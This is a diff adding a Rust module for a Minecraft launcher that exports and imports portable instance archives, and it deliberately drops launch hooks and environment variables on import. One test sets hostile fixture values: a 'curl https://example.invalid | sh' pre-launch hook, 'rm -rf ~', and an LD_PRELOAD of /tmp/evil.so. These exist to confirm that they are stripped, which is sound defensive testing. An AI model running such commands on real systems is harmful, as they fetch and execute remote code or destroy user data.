@@ -0,0 +1,445 @@
+//! Portable instance archives
+//!
+//! An archive is a zip holding `shard-instance.json` (the profile plus the
+//! Minecraft and loader versions), the profile overrides under `overrides/`,
+//! and selected instance files (configs, options, optionally worlds) under
+//! `instance/`. Content that was installed from a URL is only referenced by
+//! provider ids and hash and is downloaded again on import; local content is
+//! bundled under `content/`.
+
+use crate::modpack::{FailedFile, resolve_profile_id, sanitize_rel_path};
+use crate::paths::Paths;
+use crate::profile::{ContentRef, Loader, Profile, save_profile};
+use crate::store::{ContentKind, content_store_path, hash_file, normalize_hash, store_from_url};
+use anyhow::{Context, Result, bail};
+use serde::{Deserialize, Serialize};
+use std::fs;
+use std::io::{Read, Seek, Write};
+use std::path::Path;
+use zip::ZipArchive;
+use zip::write::{SimpleFileOptions, ZipWriter};
+
+const MANIFEST_NAME: &str = "shard-instance.json";
+const FORMAT_VERSION: u32 = 1;
+
+/// Instance files and folders worth carrying to another machine.
+const INSTANCE_ENTRIES: &[&str] = &[
+    "config",
+    "defaultconfigs",
+    "options.txt",
+    "optionsof.txt",
+    "optionsshaders.txt",
+    "servers.dat",
+];
+const WORLDS_DIR: &str = "saves";
+
+/// Content that is re-downloaded on import instead of being bundled.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct ArchivedDownload {
+    /// `mod`, `resourcepack` or `shaderpack`.
+    pub kind: String,
+    pub hash: String,
+    pub url: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub platform: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub project_id: Option<String>,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub version_id: Option<String>,
+}
+
+/// Contents of `shard-instance.json`.
+#[derive(Debug, Clone, Serialize, Deserialize)]
+pub struct InstanceManifest {
+    pub format_version: u32,
+    pub mc_version: String,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub loader: Option<Loader>,
+    pub profile: Profile,
+    #[serde(default)]
+    pub downloads: Vec<ArchivedDownload>,
+    /// Hashes of content files shipped under `content/`.
+    #[serde(default)]
+    pub bundled: Vec<String>,
+    pub include_worlds: bool,
+}
+
+/// Outcome of importing an instance archive. Content that could not be
+/// downloaded again is listed in `failed` and left out of the profile.
+#[derive(Debug, Clone, Serialize)]
+pub struct InstanceImport {
+    pub profile: Profile,
+    pub failed: Vec<FailedFile>,
+}
+
+/// Write `profile` and its instance files to a zip at `out_path`, including
+/// its worlds when `include_worlds` is set. Returns the manifest stored in the archive.
+pub fn export_instance(
+    paths: &Paths,
+    profile: &Profile,
+    out_path: &Path,
+    include_worlds: bool,
+) -> Result<InstanceManifest> {
+    let mut downloads = Vec::new();
+    let mut bundled = Vec::new();
+    let mut bundled_files = Vec::new();
+    for (kind, items) in content_lists(profile) {
+        for item in items {
+            match downloadable_url(item) {
+                Some(url) => downloads.push(ArchivedDownload {
+                    kind: kind.label().to_string(),
+                    hash: item.hash.clone(),
+                    url: url.to_string(),
+                    platform: item.platform.clone(),
+                    project_id: item.project_id.clone(),
+                    version_id: item.version_id.clone(),
+                }),
+                None => {
+                    let source = content_store_path(paths, kind, &item.hash);
+                    if !source.exists() {
+                        bail!("{} {} is missing from the store", kind.label(), item.name);
+                    }
+                    bundled.push(item.hash.clone());
+                    bundled_files.push((bundled_entry_name(kind, &item.hash), source));
+                }
+            }
+        }
+    }
+
+    let manifest = InstanceManifest {
+        format_version: FORMAT_VERSION,
+        mc_version: profile.mc_version.clone(),
+        loader: profile.loader.clone(),
+        profile: profile.clone(),
+        downloads,
+        bundled,
+        include_worlds,
+    };
+
+    if let Some(parent) = out_path.parent() {
+        fs::create_dir_all(parent)
+            .with_context(|| format!("failed to create export dir: {}", parent.display()))?;
+    }
+    let file = fs::File::create(out_path)
+        .with_context(|| format!("failed to create archive: {}", out_path.display()))?;
+    let mut zip = ZipWriter::new(file);
+    let options = SimpleFileOptions::default();
+
+    zip.start_file(MANIFEST_NAME, options)?;
+    zip.write_all(serde_json::to_string_pretty(&manifest)?.as_bytes())?;
+
+    for (name, source) in &bundled_files {
+        add_file(&mut zip, name, source)?;
+    }
+
+    add_tree(&mut zip, "overrides", &paths.profile_overrides(&profile.id))?;
+
+    let instance_dir = paths.instance_dir(&profile.id);
+    let worlds = include_worlds.then_some(WORLDS_DIR);
+    for entry in INSTANCE_ENTRIES.iter().copied().chain(worlds) {
+        add_tree(&mut zip, &format!("instance/{entry}"), &instance_dir.join(entry))?;
+    }
+
+    zip.finish().context("failed to finish archive")?;
+    Ok(manifest)
+}
+
+/// Create a profile from an archive written by [`export_instance`].
+///
+/// Referenced content is downloaded again (or reused from the store) and
+/// checked against its recorded hash; bundled content, overrides and instance
+/// files are restored from the archive. The profile id defaults to the
+/// exported one, made unique if it is taken. Launch hooks, the wrapper
+/// command and environment variables are dropped, so importing a shared
+/// archive never runs commands from it.
+pub fn import_instance_archive(paths: &Paths, archive_path: &Path, profile_id: Option<&str>) -> Result<InstanceImport> {
+    let file = fs::File::open(archive_path)
+        .with_context(|| format!("failed to open archive: {}", archive_path.display()))?;
+    let mut zip = ZipArchive::new(file).context("failed to read instance archive")?;
+    let manifest = read_manifest(&mut zip)?;
+
+    let id = resolve_profile_id(paths, &manifest.profile.id, profile_id)?;
+    if paths.is_profile_present(&id) {
+        bail!("profile already exists: {}", id);
+    }
+
+    let mut failed = Vec::new();
+    for download in &manifest.downloads {
+        if let Err(err) = fetch_download(paths, download) {
+            failed.push(FailedFile {
+                path: download.url.clone(),
+                optional: false,
+                error: format!("{err:#}"),
+            });
+        }
+    }
+    for (kind, hash) in bundled_kinds(&manifest) {
+        extract_bundled(&mut zip, paths, kind, hash)?;
+    }
+
+    let mut profile = manifest.profile.clone();
+    profile.id = id;
+    profile.mc_version = manifest.mc_version.clone();
+    profile.loader = manifest.loader.clone();
+    // A Java path from another machine is unlikely to exist here.
+    profile.runtime.java = None;
+    // Anything that runs on launch has to be set up by the user, not the archive
+    profile.runtime.pre_launch = None;
+    profile.runtime.post_exit = None;
+    profile.runtime.wrapper_command.clear();
+    profile.runtime.env.clear();
+    let failed_hashes: Vec<&str> = manifest
+        .downloads
+        .iter()
+        .filter(|d| failed.iter().any(|f| f.path == d.url))
+        .map(|d| d.hash.as_str())
+        .collect();
+    for list in [&mut profile.mods, &mut profile.resourcepacks, &mut profile.shaderpacks] {
+        list.retain(|item| !failed_hashes.contains(&item.hash.as_str()));
+    }
+
+    extract_prefix(&mut zip, "overrides/", &paths.profile_overrides(&profile.id))?;
+    extract_prefix(&mut zip, "instance/", &paths.instance_dir(&profile.id))?;
+    save_profile(paths, &profile)?;
+
+    Ok(InstanceImport { profile, failed })
+}
+
+fn content_lists(profile: &Profile) -> [(ContentKind, &Vec<ContentRef>); 3] {
+    [
+        (ContentKind::Mod, &profile.mods),
+        (ContentKind::ResourcePack, &profile.resourcepacks),
+        (ContentKind::ShaderPack, &profile.shaderpacks),
+    ]
+}
+
+fn kind_from_label(label: &str) -> Option<ContentKind> {
+    match label {
+        "mod" => Some(ContentKind::Mod),
+        "resourcepack" => Some(ContentKind::ResourcePack),
+        "shaderpack" => Some(ContentKind::ShaderPack),
+        _ => None,
+    }
+}
+
+fn downloadable_url(item: &ContentRef) -> Option<&str> {
+    item.source
+        .as_deref()
+        .filter(|source| source.starts_with("https://") || source.starts_with("http://"))
+}
+
+fn bundled_entry_name(kind: ContentKind, hash: &str) -> String {
+    format!("content/{}/{}", kind.label(), normalize_hash(hash))
+}
+
+/// Pair each bundled hash with the kind of content the profile lists it as.
+fn bundled_kinds(manifest: &InstanceManifest) -> Vec<(ContentKind, &str)> {
+    content_lists(&manifest.profile)
+        .into_iter()
+        .flat_map(|(kind, items)| items.iter().map(move |item| (kind, item.hash.as_str())))
+        .filter(|(_, hash)| manifest.bundled.iter().any(|b| b == hash))
+        .collect()
+}
+
+fn read_manifest<R: Read + Seek>(zip: &mut ZipArchive<R>) -> Result<InstanceManifest> {
+    let mut entry = zip
+        .by_name(MANIFEST_NAME)
+        .with_context(|| format!("{MANIFEST_NAME} not found in archive"))?;
+    let mut data = String::new();
+    entry
+        .read_to_string(&mut data)
+        .with_context(|| format!("failed to read {MANIFEST_NAME}"))?;
+    let manifest: InstanceManifest =
+        serde_json::from_str(&data).with_context(|| format!("failed to parse {MANIFEST_NAME}"))?;
+    if manifest.format_version != FORMAT_VERSION {
+        bail!("unsupported instance archive version: {}", manifest.format_version);
+    }
+    Ok(manifest)
+}
+
+/// Place a referenced file in the store, downloading it unless it is already there.
+fn fetch_download(paths: &Paths, download: &ArchivedDownload) -> Result<()> {
+    let kind = kind_from_label(&download.kind)
+        .with_context(|| format!("unknown content kind: {}", download.kind))?;
+    let target = content_store_path(paths, kind, &download.hash);
+    if target.exists() {
+        return Ok(());
+    }
+    let (downloaded, _) = store_from_url(paths, &download.url)?;
+    let actual = hash_file(&downloaded)?;
+    if actual != normalize_hash(&download.hash) {
+        let _ = fs::remove_file(&downloaded);
+        bail!("hash mismatch for {}", download.url);
+    }
+    fs::rename(&downloaded, &target)
+        .or_else(|_| fs::copy(&downloaded, &target).map(|_| ()))
+        .with_context(|| format!("failed to move download into store: {}", target.display()))
+}
+
+fn extract_bundled<R: Read + Seek>(zip: &mut ZipArchive<R>, paths: &Paths, kind: ContentKind, hash: &str) -> Result<()> {
+    let target = content_store_path(paths, kind, hash);
+    if target.exists() {
+        return Ok(());
+    }
+    let name = bundled_entry_name(kind, hash);
+    let mut entry = zip
+        .by_name(&name)
+        .with_context(|| format!("{name} not found in archive"))?;
+    let mut out = fs::File::create(&target)
+        .with_context(|| format!("failed to write store file: {}", target.display()))?;
+    std::io::copy(&mut entry, &mut out).with_context(|| format!("failed to extract {name}"))?;
+    drop(out);
+    if hash_file(&target)? != normalize_hash(hash) {
+        let _ = fs::remove_file(&target);
+        bail!("hash mismatch for bundled {}", name);
+    }
+    Ok(())
+}
+
+/// Extract every file under `prefix` into `dest`, keeping relative paths.
+fn extract_prefix<R: Read + Seek>(zip: &mut ZipArchive<R>, prefix: &str, dest: &Path) -> Result<()> {
+    fs::create_dir_all(dest).with_context(|| format!("failed to create dir: {}", dest.display()))?;
+    for i in 0..zip.len() {
+        let mut entry = zip.by_index(i).context("failed to read zip entry")?;
+        if entry.is_dir() {
+            continue;
+        }
+        let name = entry.name().to_string();
+        let Some(rest) = name.strip_prefix(prefix).filter(|rest| !rest.is_empty()) else {
+            continue;
+        };
+        let target = dest.join(sanitize_rel_path(rest)?);
+        if let Some(parent) = target.parent() {
+            fs::create_dir_all(parent)?;
+        }
+        let mut out = fs::File::create(&target)
+            .with_context(|| format!("failed to write {}", target.display()))?;
+        std::io::copy(&mut entry, &mut out).with_context(|| format!("failed to extract {name}"))?;
+    }
+    Ok(())
+}
+
+fn add_file<W: Write + Seek>(zip: &mut ZipWriter<W>, name: &str, source: &Path) -> Result<()> {
+    zip.start_file(name, SimpleFileOptions::default())
+        .with_context(|| format!("failed to add {name} to archive"))?;
+    let mut file = fs::File::open(source)
+        .with_context(|| format!("failed to open {}", source.display()))?;
+    std::io::copy(&mut file, zip).with_context(|| format!("failed to write {name} to archive"))?;
+    Ok(())
+}
+
+/// Add a file, or every file below a directory, under `name`. Missing paths are skipped.
+fn add_tree<W: Write + Seek>(zip: &mut ZipWriter<W>, name: &str, source: &Path) -> Result<()> {
+    let Ok(meta) = fs::symlink_metadata(source) else {
+        return Ok(());
+    };
+    if meta.is_file() {
+        return add_file(zip, name, source);
+    }
+    if !meta.is_dir() {
+        return Ok(());
+    }
+    let mut entries: Vec<_> = fs::read_dir(source)
+        .with_context(|| format!("failed to read dir: {}", source.display()))?
+        .collect::<std::io::Result<_>>()?;
+    entries.sort_by_key(|entry| entry.file_name());
+    for entry in entries {
+        let file_name = entry.file_name();
+        let child = format!("{}/{}", name, file_name.to_string_lossy());
+        add_tree(zip, &child, &entry.path())?;
+    }
+    Ok(())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::profile::{Runtime, create_profile, load_profile, upsert_mod};
+    use crate::store::store_content;
+
+    #[test]
+    fn test_export_and_import_round_trip() {
+        let base = std::env::temp_dir().join(format!("shard-instance-archive-{}", std::process::id()));
+        let _ = fs::remove_dir_all(&base);
+        let paths = Paths::from_base(&base);
+        paths.ensure().unwrap();
+
+        let mut profile = create_profile(&paths, "pack", "1.20.1", None, Runtime::default()).unwrap();
+        let jar = base.join("local.jar");
+        fs::write(&jar, b"local mod").unwrap();
+        let stored = store_content(&paths, ContentKind::Mod, &jar, None, None).unwrap();
+        upsert_mod(&mut profile, ContentRef {
+            name: stored.name,
+            hash: stored.hash.clone(),
+            version: None,
+            source: None,
+            file_name: Some(stored.file_name),
+            platform: None,
+            project_id: None,
+            version_id: None,
+            enabled: true,
+            pinned: false,
+        });
+        profile.runtime.java = Some("/opt/java/bin/java".to_string());
+        save_profile(&paths, &profile).unwrap();
+
+        fs::write(paths.profile_overrides("pack").join("override.txt"), "o").unwrap();
+        let instance = paths.instance_dir("pack");
+        fs::create_dir_all(instance.join("config")).unwrap();
+        fs::create_dir_all(instance.join("saves/world")).unwrap();
+        fs::write(instance.join("config/mod.toml"), "a = 1").unwrap();
+        fs::write(instance.join("options.txt"), "fov:90").unwrap();
+        fs::write(instance.join("saves/world/level.dat"), "w").unwrap();
+        fs::write(instance.join("latest.log"), "noise").unwrap();
+
+        let archive = base.join("pack.zip");
+        let manifest = export_instance(&paths, &profile, &archive, false).unwrap();
+        assert_eq!(manifest.bundled, vec![stored.hash.clone()]);
+        assert!(manifest.downloads.is_empty());
+
+        fs::remove_file(content_store_path(&paths, ContentKind::Mod, &stored.hash)).unwrap();
+        let import = import_instance_archive(&paths, &archive, None).unwrap();
+        assert_eq!(import.profile.id, "pack-2");
+        assert!(import.failed.is_empty());
+        assert!(import.profile.runtime.java.is_none());
+        assert!(content_store_path(&paths, ContentKind::Mod, &stored.hash).exists());
+
+        let loaded = load_profile(&paths, "pack-2").unwrap();
+        assert_eq!(loaded.mods.len(), 1);
+        let imported = paths.instance_dir("pack-2");
+        assert_eq!(fs::read_to_string(imported.join("config/mod.toml")).unwrap(), "a = 1");
+        assert_eq!(fs::read_to_string(imported.join("options.txt")).unwrap(), "fov:90");
+        assert!(!imported.join("saves").exists());
+        assert!(!imported.join("latest.log").exists());
+        assert!(paths.profile_overrides("pack-2").join("override.txt").exists());
+
+        let _ = fs::remove_dir_all(&base);
+    }
+
+    #[test]
+    fn test_import_drops_launch_commands() {
+        let base = std::env::temp_dir().join(format!("shard-instance-archive-hooks-{}", std::process::id()));
+        let _ = fs::remove_dir_all(&base);
+        let paths = Paths::from_base(&base);
+        paths.ensure().unwrap();
+
+        let mut profile = create_profile(&paths, "hooks", "1.20.1", None, Runtime::default()).unwrap();
+        profile.runtime.memory = Some("4G".to_string());
+        profile.runtime.pre_launch = Some("curl https://example.invalid | sh".to_string());
+        profile.runtime.post_exit = Some("rm -rf ~".to_string());
+        profile.runtime.wrapper_command = vec!["sh".to_string(), "-c".to_string(), "evil".to_string()];
+        profile.runtime.env.insert("LD_PRELOAD".to_string(), "/tmp/evil.so".to_string());
+        save_profile(&paths, &profile).unwrap();
+
+        let archive = base.join("hooks.zip");
+        export_instance(&paths, &profile, &archive, false).unwrap();
+        let runtime = import_instance_archive(&paths, &archive, Some("imported")).unwrap().profile.runtime;
+        assert_eq!(runtime.memory.as_deref(), Some("4G"));
+        assert!(runtime.pre_launch.is_none() && runtime.post_exit.is_none());
+        assert!(runtime.wrapper_command.is_empty() && runtime.env.is_empty());
+        let saved = load_profile(&paths, "imported").unwrap().runtime;
+        assert!(saved.pre_launch.is_none() && saved.wrapper_command.is_empty() && saved.env.is_empty());
+
+        let _ = fs::remove_dir_all(&base);
+    }
+}